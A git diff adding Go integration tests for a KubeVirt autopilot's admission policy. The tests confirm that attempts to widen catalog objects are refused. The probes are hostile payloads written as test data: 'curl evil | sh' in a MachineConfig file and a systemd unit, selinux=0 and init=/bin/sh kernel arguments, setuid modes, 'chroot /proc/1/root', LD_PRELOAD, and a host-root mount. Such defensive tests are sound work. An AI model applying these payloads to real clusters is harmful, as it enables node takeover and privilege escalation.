@@ -12,18 +12,24 @@ import (
 	. "github.com/onsi/gomega"
 	"github.com/prometheus/client_golang/prometheus/testutil"
 	admissionv1 "k8s.io/api/admissionregistration/v1"
+	appsv1 "k8s.io/api/apps/v1"
 	authorizationv1 "k8s.io/api/authorization/v1"
 	rbacv1 "k8s.io/api/rbac/v1"
 	apierrors "k8s.io/apimachinery/pkg/api/errors"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
+	"k8s.io/apimachinery/pkg/runtime"
+	"k8s.io/apimachinery/pkg/runtime/schema"
 	"k8s.io/apimachinery/pkg/types"
 	"k8s.io/client-go/rest"
 	"sigs.k8s.io/controller-runtime/pkg/client"
 	"sigs.k8s.io/yaml"
 
+	"github.com/kubevirt/virt-platform-autopilot/assets"
 	"github.com/kubevirt/virt-platform-autopilot/pkg/admission"
+	"github.com/kubevirt/virt-platform-autopilot/pkg/app"
 	"github.com/kubevirt/virt-platform-autopilot/pkg/engine"
+	"github.com/kubevirt/virt-platform-autopilot/pkg/fleetstatus"
 	"github.com/kubevirt/virt-platform-autopilot/pkg/metrics"
 	"github.com/kubevirt/virt-platform-autopilot/pkg/rbac"
 )
@@ -38,6 +44,28 @@ func installAdmissionPolicy(ctx context.Context) {
 	policy, binding := &admissionv1.ValidatingAdmissionPolicy{}, &admissionv1.ValidatingAdmissionPolicyBinding{}
 	Expect(yaml.Unmarshal([]byte(docs[0]), policy)).To(Succeed())
 	Expect(yaml.Unmarshal([]byte(docs[1]), binding)).To(Succeed())
+	// As an admin installs it: the committed policy with the images the
+	// autopilot's Deployment names (cmd/rbac-gen --image), the one
+	// variable that is theirs.
+	cat, ts, err := app.LoadEmbedded()
+	Expect(err).NotTo(HaveOccurred())
+	withImages, _, err := rbac.AdmissionPolicy(assets.FS, cat, ts, hcoNamespace, autopilotUser, []rbac.Object{{GVK: schema.GroupVersionKind{Version: "v1", Kind: "ConfigMap"}, Namespace: operatorNamespace, Name: fleetstatus.Name}}, trustedImages)
+	Expect(err).NotTo(HaveOccurred())
+	replaced := 0
+	for i, v := range policy.Spec.Variables {
+		for _, w := range withImages.Spec.Variables {
+			if v.Name == rbac.TrustedImages && w.Name == v.Name {
+				policy.Spec.Variables[i] = w
+				replaced++
+			}
+		}
+	}
+	Expect(replaced).To(Equal(1))
+	// OpenShift's Scheduler, the policy's parameter (every OpenShift
+	// cluster has it): masters do not run workloads until a spec says so.
+	sched := newObj(schedulerGVK, "", "cluster")
+	Expect(unstructured.SetNestedField(sched.Object, false, "spec", "mastersSchedulable")).To(Succeed())
+	Expect(k8s.Create(ctx, sched)).To(Succeed())
 	Expect(k8s.Create(ctx, policy)).To(Succeed())
 	Expect(k8s.Create(ctx, binding)).To(Succeed())
 	// Enforced once the API server's policy informer has it (envtest runs
@@ -53,10 +81,20 @@ func installAdmissionPolicy(ctx context.Context) {
 	}).Should(Succeed())
 }
 
+// The images the suite's autopilot runs the metrics exporter with, which
+// its admission policy trusts.
+const (
+	exporterImage      = "quay.io/kubevirt/kubevirt-metrics-exporter:integration"
+	exporterProbeImage = "quay.io/kubevirt/kubevirt-metrics-exporter:probe"
+	autopilotUser      = "system:serviceaccount:" + operatorNamespace + ":virt-platform-autopilot"
+)
+
+var trustedImages = map[string][]string{"kubevirt-metrics-exporter": {exporterImage, exporterProbeImage}}
+
 // asAutopilot is a client acting as the autopilot's ServiceAccount.
 func asAutopilot() client.Client {
 	c := rest.CopyConfig(cfg)
-	c.Impersonate = rest.ImpersonationConfig{UserName: "system:serviceaccount:" + operatorNamespace + ":virt-platform-autopilot"}
+	c.Impersonate = rest.ImpersonationConfig{UserName: autopilotUser}
 	cl, err := client.New(c, client.Options{})
 	Expect(err).NotTo(HaveOccurred())
 	return cl
@@ -122,8 +160,62 @@ func admissionSpecs(ctx context.Context) {
 		refused(sa.Create(ctx, kc("master", map[string]any{"authorization": map[string]any{"mode": "AlwaysAllow"}}), client.DryRunAll), "AlwaysAllow authorization")
 		refused(sa.Create(ctx, kc("master", map[string]any{"readOnlyPort": int64(10255)}), client.DryRunAll), "the kubelet's read-only port")
 		refused(sa.Create(ctx, kc("worker", map[string]any{"maxPods": int64(500)}), client.DryRunAll), "the master's KubeletConfig pointed at the workers")
-		err := sa.Create(ctx, kc("master", map[string]any{"maxPods": int64(500), "authorization": map[string]any{"mode": "Webhook"}}), client.DryRunAll)
+		// (The master's, as rendered, is admitted only where masters are
+		// schedulable: the worker's is the catalog's shape here.)
+		worker := kc("worker", map[string]any{"maxPods": int64(500), "authorization": map[string]any{"mode": "Webhook"}})
+		worker.SetName("kubevirt-kubelet-worker")
+		err := sa.Create(ctx, worker, client.DryRunAll)
 		Expect(err == nil || apierrors.IsAlreadyExists(err)).To(BeTrue(), "the catalog's KubeletConfig as rendered: %v", err)
+
+		// What the catalog renders only where masters run workloads
+		// follows the cluster's Scheduler, which the token cannot write:
+		// with masters not schedulable, the catalog's own master
+		// MachineConfig, as the catalog renders it, is refused.
+		sched := get(schedulerGVK, "", "cluster")
+		mastersSchedulable, found, _ := unstructured.NestedBool(sched.Object, "spec", "mastersSchedulable")
+		Expect(found && !mastersSchedulable).To(BeTrue(), "the suite's Scheduler says masters do not run workloads")
+		masterPSI := newObj(mcGVK, "", "99-master-kubevirt-psi-karg")
+		masterPSI.SetLabels(map[string]string{"machineconfiguration.openshift.io/role": "master"})
+		Expect(unstructured.SetNestedStringSlice(masterPSI.Object, []string{"psi=1"}, "spec", "kernelArguments")).To(Succeed())
+		refused(sa.Create(ctx, masterPSI.DeepCopy(), client.DryRunAll), "a master MachineConfig where masters are not schedulable")
+		Expect(unstructured.SetNestedField(sched.Object, true, "spec", "mastersSchedulable")).To(Succeed())
+		Expect(apierrors.IsForbidden(sa.Update(ctx, sched.DeepCopy()))).To(BeTrue(), "the token cannot make masters schedulable")
+
+		// Content, not only names: kernel arguments, files and units are
+		// the catalog's renders (a PCI id list of its grammar aside).
+		psi := get(mcGVK, "", psiMC)
+		for _, arg := range []string{"selinux=0", "enforcing=0", "psi=1 selinux=0", "init=/bin/sh"} {
+			withArg := psi.DeepCopy()
+			Expect(unstructured.SetNestedStringSlice(withArg.Object, []string{"psi=1", arg}, "spec", "kernelArguments")).To(Succeed())
+			refused(sa.Patch(ctx, withArg, client.MergeFrom(psi), client.DryRunAll), "kernel argument "+arg)
+		}
+		vfio := func(args ...string) *unstructured.Unstructured {
+			u := newObj(mcGVK, "", "50-worker-kubevirt-vfio")
+			u.SetLabels(map[string]string{"machineconfiguration.openshift.io/role": "worker"})
+			Expect(unstructured.SetNestedStringSlice(u.Object, args, "spec", "kernelArguments")).To(Succeed())
+			return u
+		}
+		refused(sa.Create(ctx, vfio("intel_iommu=on", "vfio-pci.ids=10de:1eb8 selinux=0"), client.DryRunAll), "a PCI id list carrying another argument")
+		refused(sa.Create(ctx, vfio("intel_iommu=on", "vfio-pci.ids=10de:1eb8,"), client.DryRunAll), "a PCI id list out of its grammar")
+		err = sa.Create(ctx, vfio("intel_iommu=on", "iommu=pt", "rd.driver.pre=vfio-pci", "vfio-pci.ids=10de:1eb8,8086:15b3"), client.DryRunAll)
+		Expect(err == nil || apierrors.IsAlreadyExists(err)).To(BeTrue(), "the catalog's vfio MachineConfig with the HCO's PCI ids: %v", err)
+		withScript := swap.DeepCopy()
+		files, _, _ := unstructured.NestedSlice(withScript.Object, "spec", "config", "storage", "files")
+		Expect(files).NotTo(BeEmpty())
+		files[0].(map[string]any)["contents"] = map[string]any{"source": "data:,%23%21%2Fbin%2Fsh%0Acurl%20evil%20%7C%20sh"}
+		Expect(unstructured.SetNestedSlice(withScript.Object, files, "spec", "config", "storage", "files")).To(Succeed())
+		refused(sa.Patch(ctx, withScript, client.MergeFrom(swap), client.DryRunAll), "a catalog file with other contents")
+		withMode := swap.DeepCopy()
+		files, _, _ = unstructured.NestedSlice(withMode.Object, "spec", "config", "storage", "files")
+		files[0].(map[string]any)["mode"] = int64(0o4755)
+		Expect(unstructured.SetNestedSlice(withMode.Object, files, "spec", "config", "storage", "files")).To(Succeed())
+		refused(sa.Patch(ctx, withMode, client.MergeFrom(swap), client.DryRunAll), "a catalog file made setuid")
+		unitChanged := swap.DeepCopy()
+		units, _, _ = unstructured.NestedSlice(unitChanged.Object, "spec", "config", "systemd", "units")
+		Expect(units).NotTo(BeEmpty())
+		units[0].(map[string]any)["contents"] = "[Service]\nExecStart=/bin/sh -c 'curl evil | sh'\n"
+		Expect(unstructured.SetNestedSlice(unitChanged.Object, units, "spec", "config", "systemd", "units")).To(Succeed())
+		refused(sa.Patch(ctx, unitChanged, client.MergeFrom(swap), client.DryRunAll), "a catalog unit with other contents")
 
 		// The autopilot says the policy is in place for it, and says so
 		// when it goes.
@@ -175,7 +267,13 @@ func deputySpecs(ctx context.Context) {
 	It("never writes for an annotation's author a rule the API server refuses them (a held-out probe as a low-privilege user)", func() {
 		const sw = "platform.kubevirt.io/enable-kubevirt-metrics-exporter"
 		const env = "RELATED_IMAGE_KUBEVIRT_METRICS_EXPORTER"
-		Expect(os.Setenv(env, "quay.io/kubevirt/kubevirt-metrics-exporter:probe")).To(Succeed())
+		requireVendorCRDs()
+		// OpenShift's SCC kind, so the exporter's SCC is written too (and
+		// probed below); gone again after everything else.
+		const sccCRD = "securitycontextconstraints.security.openshift.io"
+		installCRD(ctx, readCRD(filepath.Join(vendorDir(), "openshift", "securitycontextconstraints-crd.yaml")))
+		DeferCleanup(func() { removeCRD(ctx, sccCRD) })
+		Expect(os.Setenv(env, exporterProbeImage)).To(Succeed())
 		stopManager()
 		startManager()
 		update(hcoGVK, hcoNamespace, hcoName, "admin", func(u *unstructured.Unstructured) { setAnnotation(u, sw, "true") })
@@ -191,6 +289,12 @@ func deputySpecs(ctx context.Context) {
 		role := client.ObjectKey{Name: "kubevirt-metrics-exporter"}
 		Eventually(func() error { return k8s.Get(ctx, role, &rbacv1.ClusterRole{}) }).Should(Succeed())
 		Eventually(outcomeOf("kubevirt-metrics-exporter-clusterrole")).Should(Equal(engine.Unchanged))
+
+		// Under the policy the catalog's roles, bindings, SCC and workload
+		// were written as rendered; the token may not widen any of them.
+		Eventually(outcomeOf("kubevirt-metrics-exporter-daemonset")).Should(Equal(engine.Unchanged))
+		Eventually(outcomeOf("kubevirt-metrics-exporter-scc")).Should(Equal(engine.Unchanged))
+		contentProbes(ctx)
 
 		// Mallory may get and patch that one ClusterRole.
 		const mallory = "mallory"
@@ -242,6 +346,76 @@ func deputySpecs(ctx context.Context) {
 		Expect(m.Patch(ctx, &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: role.Name}}, client.RawPatch(types.MergePatchType, []byte(mustJSON(m2))))).To(Succeed())
 		Eventually(outcomeOf("kubevirt-metrics-exporter-clusterrole")).Should(Equal(engine.Unchanged))
 	})
+}
+
+// contentProbes tries, as the autopilot's token (dry-run), to widen each
+// object of the metrics exporter the catalog ships: each is refused by
+// the admission policy.
+func contentProbes(ctx context.Context) {
+	GinkgoHelper()
+	sa := asAutopilot()
+	refused := func(obj client.Object, patch map[string]any, why string) {
+		GinkgoHelper()
+		err := sa.Patch(ctx, obj, client.RawPatch(types.MergePatchType, []byte(mustJSON(patch))), client.DryRunAll)
+		Expect(apierrors.IsForbidden(err)).To(BeTrue(), "%s: want refused by admission, got %v", why, err)
+		Expect(err.Error()).To(ContainSubstring(rbac.PolicyName))
+	}
+	const ns, name = "kubevirt-metrics-exporter", "kubevirt-metrics-exporter"
+	role := &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: name}}
+	live := &rbacv1.ClusterRole{}
+	Expect(k8s.Get(ctx, client.ObjectKeyFromObject(role), live)).To(Succeed())
+	rules := []any{}
+	for _, r := range live.Rules {
+		rules = append(rules, r)
+	}
+	mcCreate := map[string]any{"apiGroups": []any{"machineconfiguration.openshift.io"}, "resources": []any{"machineconfigs"}, "verbs": []any{"create"}}
+	refused(role, map[string]any{"rules": append(rules, mcCreate)}, "a rule the catalog's ClusterRole does not have")
+	// (An aggregation rule the API server itself keeps to cluster-admins.)
+	agg := map[string]any{"aggregationRule": map[string]any{"clusterRoleSelectors": []any{map[string]any{"matchLabels": map[string]any{"x": "y"}}}}}
+	Expect(apierrors.IsForbidden(sa.Patch(ctx, role, client.RawPatch(types.MergePatchType, []byte(mustJSON(agg))), client.DryRunAll))).To(BeTrue())
+	binding := &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: name}}
+	refused(binding, map[string]any{"subjects": []any{map[string]any{"kind": "ServiceAccount", "name": "default", "namespace": "default"}}}, "another subject")
+	sccObj := &unstructured.Unstructured{}
+	sccObj.SetGroupVersionKind(schema.GroupVersionKind{Group: "security.openshift.io", Version: "v1", Kind: "SecurityContextConstraints"})
+	sccObj.SetName(name)
+	refused(sccObj, map[string]any{"users": []any{"system:serviceaccount:default:default"}}, "an SCC granted to another user")
+	refused(sccObj, map[string]any{"allowPrivilegedContainer": true}, "a privileged SCC")
+	refused(sccObj, map[string]any{"allowHostNetwork": true}, "host network in the SCC")
+
+	ds := &appsv1.DaemonSet{}
+	Expect(k8s.Get(ctx, client.ObjectKey{Namespace: ns, Name: name}, ds)).To(Succeed())
+	container := func(edit func(c map[string]any)) map[string]any {
+		raw, err := runtime.DefaultUnstructuredConverter.ToUnstructured(&ds.Spec.Template.Spec.Containers[0])
+		Expect(err).NotTo(HaveOccurred())
+		edit(raw)
+		return map[string]any{"spec": map[string]any{"template": map[string]any{"spec": map[string]any{"containers": []any{raw}}}}}
+	}
+	pod := func(field string, v any) map[string]any {
+		return map[string]any{"spec": map[string]any{"template": map[string]any{"spec": map[string]any{field: v}}}}
+	}
+	refused(ds, container(func(c map[string]any) { c["image"] = "quay.io/someone/exporter:evil" }), "an image the policy does not trust")
+	refused(ds, container(func(c map[string]any) { c["command"] = []any{"/bin/sh", "-c", "chroot /proc/1/root"} }), "another command")
+	refused(ds, container(func(c map[string]any) { c["args"] = []any{"--listen-address=:8080", "--cri-socket=/tmp/x"} }), "other arguments")
+	refused(ds, container(func(c map[string]any) {
+		c["livenessProbe"] = map[string]any{"exec": map[string]any{"command": []any{"/bin/sh", "-c", "id"}}}
+	}), "a probe that runs a command")
+	refused(ds, container(func(c map[string]any) {
+		c["securityContext"] = map[string]any{"privileged": true}
+	}), "a privileged container")
+	refused(ds, container(func(c map[string]any) {
+		c["env"] = append(c["env"].([]any), map[string]any{"name": "LD_PRELOAD", "value": "/sys/x.so"})
+	}), "another environment")
+	refused(ds, pod("hostNetwork", true), "the host's network")
+	refused(ds, pod("serviceAccountName", "default"), "another identity")
+	volumes := []any{map[string]any{"name": "root", "hostPath": map[string]any{"path": "/"}}}
+	for _, v := range ds.Spec.Template.Spec.Volumes {
+		raw, err := runtime.DefaultUnstructuredConverter.ToUnstructured(&v)
+		Expect(err).NotTo(HaveOccurred())
+		volumes = append(volumes, raw)
+	}
+	refused(ds, pod("volumes", volumes), "the host's root")
+	// As it is, it passes.
+	Expect(sa.Patch(ctx, ds.DeepCopy(), client.RawPatch(types.MergePatchType, []byte(`{"metadata":{"labels":{"probe":"x"}}}`)), client.DryRunAll)).To(Succeed())
 }
 
 func mustJSON(v any) string {
